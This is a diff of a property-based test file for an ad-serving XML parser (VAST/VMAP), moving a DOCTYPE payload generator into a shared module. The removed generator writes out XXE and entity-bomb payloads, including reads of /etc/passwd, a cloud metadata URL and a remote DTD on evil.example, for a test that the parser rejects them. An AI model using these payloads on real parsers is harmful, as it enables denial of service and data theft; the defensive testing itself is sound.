@@ -10,7 +10,7 @@ import t from 'tap';
 import fc from 'fast-check';
 import type { Element } from '@xmldom/xmldom';
 import { AdXmlError, localNameOf, parseVast, parseVmap, parseXml, resolveAds, formatVastDuration, type VastDocument, type VastLinear, type VastMediaFile, type VmapBreak, type VmapDocument } from '../../lib/ads/index.js';
-import { encodeText, fixtureTexts, httpUrl, mutated, outcome, paramsFor, textEncoding, xmlEscape, xmlText } from './common.js';
+import { doctypeDoc, encodeText, fixtureTexts, httpUrl, mutated, outcome, paramsFor, textEncoding, xmlEscape, xmlText } from './common.js';
 
 const vastFixtures = fixtureTexts('vast', ['.xml']).map((f) => f.text);
 const vmapFixtures = fixtureTexts('vmap', ['.xml']).map((f) => f.text);
@@ -244,27 +244,6 @@ t.test('malformed or odd input: parseXml, parseVast and parseVmap return or thro
     paramsFor(1),
   );
 });
-
-/** DOCTYPE variants: billion laughs, external entities, parameter entities, odd case, after a prolog. */
-export const doctypeDoc = fc
-  .record({
-    prolog: fc.constantFrom('', '\ufeff', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n<!-- c -->\n', '<?xml-stylesheet href="x"?>'),
-    keyword: fc.constantFrom('<!DOCTYPE', '<!doctype', '<!DocType'),
-    root: fc.constantFrom('VAST', 'VMAP', 'rss', 'x'),
-    body: fc.constantFrom(
-      '[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]',
-      'SYSTEM "file:///etc/passwd"',
-      '[<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]',
-      '[<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]',
-      '',
-    ),
-    use: fc.constantFrom('&d;', '&xxe;', '', '&a;'),
-    inside: fc.boolean(),
-  })
-  .map((r) => {
-    const doctype = `${r.keyword} ${r.root} ${r.body}>\n`;
-    return `${r.prolog}${r.inside ? '' : doctype}<${r.root} version="3.0">${r.inside ? doctype : ''}<Ad id="1"><InLine><AdTitle>${r.use}</AdTitle></InLine></Ad><channel><item><guid>g</guid><title>${r.use}</title></item></channel></${r.root}>`;
-  });
 
 t.test('a DOCTYPE (entity bombs, external entities) is always refused with AdXmlError', async () => {
   fc.assert(
